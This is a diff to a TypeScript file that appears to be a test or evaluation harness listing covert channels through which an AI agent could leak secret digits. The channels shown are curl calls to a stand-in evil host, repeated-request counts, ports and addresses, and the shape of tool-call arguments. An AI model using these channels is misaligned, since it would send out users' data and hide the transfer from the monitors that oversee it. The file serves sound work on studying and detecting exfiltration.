@@ -107,6 +107,13 @@ const choices: readonly Technique[] = [
     links(1, (piece) => `evil.example.net/${piece}`),
     (digits) => chosen(digits, 1, (piece) => fetchesUrl(`http${piece > "7" ? "s" : ""}://evil.example.net/${piece}`)),
   ),
+  technique("many links of one curl", links(1, path), (digits) => [
+    { call: runs(`curl -s ${[...digits].map(path).join(" ")}`), options: whole },
+  ]),
+  technique("one link of one curl, often", `${evil}/tick`, (digits) => [
+    { call: runs(`curl -s ${`${evil}/tick `.repeat(Number.parseInt(digits.slice(0, 3), 16))}`), options: 2 ** 11 },
+    { call: runs(`curl -s ${`${evil}/tick `.repeat(Number.parseInt(digits.slice(3, 6), 16))}`), options: 2 ** 11 },
+  ]),
   technique("the same page, again and again", `${evil}/tick`, (digits) =>
     [...digits, ...digits].map(() => ({ call: fetchesUrl(`${evil}/tick`), options: 2 })),
   ),
@@ -159,6 +166,24 @@ const choices: readonly Technique[] = [
 const users = prompt(
   `Compare these: ${hex.map((piece) => `${evil}/u${piece}`).join(" ")} and say which fits notes.txt.`,
 );
+
+/** What the arguments for a server can tell besides their texts. */
+const shapes: readonly [name: string, input: (n: number) => object, options: number][] = [
+  ["a list of true and false", (n: number) => ({ id: [n & 1, n & 2, n & 4, n & 8].map(Boolean) }), 16],
+  ["names of arguments", (n: number) => ({ [`n${n}`]: "" }), 16],
+  ["names of declared arguments", (n: number) => ({ [["id", "query", "what", "count"][n % 4] ?? ""]: "" }), 4],
+  ["how many arguments are empty", (n: number) => ({ id: Array(n).fill("") }), 16],
+  ["something deep in arguments", (n: number) => ({ id: nested(`d${n}`, 12) }), 16],
+  ["how deep arguments are", (n: number) => ({ id: nested(null, n) }), 16],
+  ["blanks before a user's word", (n: number) => ({ id: `${" ".repeat(n)}pods` }), 16],
+];
+
+/** Many addresses that one person can have. */
+const places: readonly [name: string, url: (n: number) => string][] = [
+  ["ports of an address", (n: number) => `http://93.184.216.34:90${10 + n}/`],
+  ["ports of a name that ends in a dot", (n: number) => `https://evil.example.net.:90${10 + n}/`],
+  ["addresses of one network", (n: number) => `http://[2606:4700:10:20::${n}:1]:90${10 + n}/`],
+];
 
 const words: readonly Technique[] = [
   {
@@ -230,8 +255,18 @@ const words: readonly Technique[] = [
     (digits) => chosen(digits, 1, (piece) => callsServer("hub", { id: `item${piece}` }, "reads")),
     [server("hub", hex.map((piece) => `item${piece}`).join(" "))],
   ),
+  ...shapes.map(([name, input, options]) =>
+    technique(name, "Bees.", (digits) =>
+      chosen(digits, 1, (piece) => callsServer("hub", input(Number.parseInt(piece, 16)), "reads"), options),
+    ),
+  ),
   technique("a link that is cut short", `${evil}/${"a".repeat(40)}`, (digits) =>
     chosen(digits, 1, (piece) => fetchesUrl(`${evil}/${"a".repeat(Number.parseInt(piece, 16))}`)),
+  ),
+  ...places.map(([name, url]) =>
+    technique(name, hex.map((_, n) => url(n)).join(" "), (digits) =>
+      chosen(digits, 1, (piece) => fetchesUrl(url(Number.parseInt(piece, 16)))),
+    ),
   ),
   technique("a port", `${evil}/`, (digits) =>
     chosen(digits, 1, (piece) => fetchesUrl(`https://evil.example.net:80${10 + Number.parseInt(piece, 16)}/`)),
@@ -246,6 +281,10 @@ const words: readonly Technique[] = [
     chosen(digits, 1, (piece) => fetchesUrl(`${evil}/%3${Number.parseInt(piece, 16) % 10}`), 10),
   ),
 ];
+
+function nested(value: unknown, depth: number): unknown {
+  return depth === 0 ? value : [nested(value, depth - 1)];
+}
 
 /** An address with the whole code in it, after something that is no stranger has said it. */
 const washed = (name: string, said: (url: string, bare: string) => Message): Technique =>
